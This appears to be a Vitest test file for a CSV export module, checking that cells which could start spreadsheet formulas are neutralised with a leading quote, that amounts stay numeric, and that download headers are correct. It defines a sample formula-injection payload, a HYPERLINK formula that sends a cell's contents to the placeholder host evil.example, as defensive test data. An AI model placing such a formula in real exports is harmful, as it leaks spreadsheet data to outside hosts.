import { describe, expect, it } from 'vitest';
import { csvCellText, csvDownload, csvNumber, csvText } from './csvFile.server';

const ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"Refund")';

describe('the CSV writer', () => {
  it('writes a text cell that would start a formula with a leading quote, whatever starts it', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n']) expect(csvCellText(`${start}SUM(A1:A9)`), JSON.stringify(start)).toBe(`'${start}SUM(A1:A9)`);
    expect(csvCellText(ATTACK)).toBe(`'${ATTACK}`);
    // Text that only looks like a negative amount is still text.
    expect(csvCellText('-5.00')).toBe("'-5.00");
    expect(csvCellText('+1 555 0100')).toBe("'+1 555 0100");
  });

  it('leaves ordinary text, dates and ids as they are', () => {
    for (const text of ['Test buyer', '2026-12-01T11:00:00.000Z', 'ord_0a1b2c', 'Launch night × 2', 'a=b', 'Zoë @ home', '']) expect(csvCellText(text)).toBe(text);
    expect(csvCellText(null)).toBe('');
    expect(csvCellText(undefined)).toBe('');
  });

  it('keeps amounts numbers: negative ones included, when the writer is told they are numbers', () => {
    expect(csvCellText(csvNumber('-5.00'))).toBe('-5.00');
    expect(csvCellText(csvNumber('12.50'))).toBe('12.50');
    expect(csvCellText(-60)).toBe('-60');
    expect(csvCellText(0)).toBe('0');
    // Anything else marked as a number is written as text, neutralised like text.
    expect(csvCellText(csvNumber('-1+cmd'))).toBe("'-1+cmd");
    expect(csvCellText(csvNumber('=1'))).toBe("'=1");
    expect(csvCellText(-1e-7)).toBe("'-1e-7");
    expect(csvCellText(Number.NaN)).toBe('NaN');
  });

  it('writes a header and rows, quoting what CSV needs quoted, with every cell judged', () => {
    const text = csvText(['buyer', 'amount', 'note'], [
      [ATTACK, csvNumber('-5.00'), 'a, "quoted" note'],
      ['@mention', csvNumber('19.00'), 'line\nbreak'],
    ]);
    expect(text).toBe(['buyer,amount,note', `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Refund"")",-5.00,"a, ""quoted"" note"`, `'@mention,19.00,"line\nbreak"`, ''].join('\n'));
    expect(csvText(['only'], [])).toBe('only\n');
  });

  it('serves the file as a download that is never cached', async () => {
    const response = csvDownload('sale-2026-12-01.csv', ['a'], [['-x']]);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="sale-2026-12-01.csv"');
    expect(response.headers.get('Cache-Control')).toBe('private, no-store');
    expect(await response.text()).toBe("a\n'-x\n");
    expect(csvDownload('a "b"\r\n.csv', ['a'], []).headers.get('Content-Disposition')).toBe('attachment; filename="a__b___.csv"');
  });
});
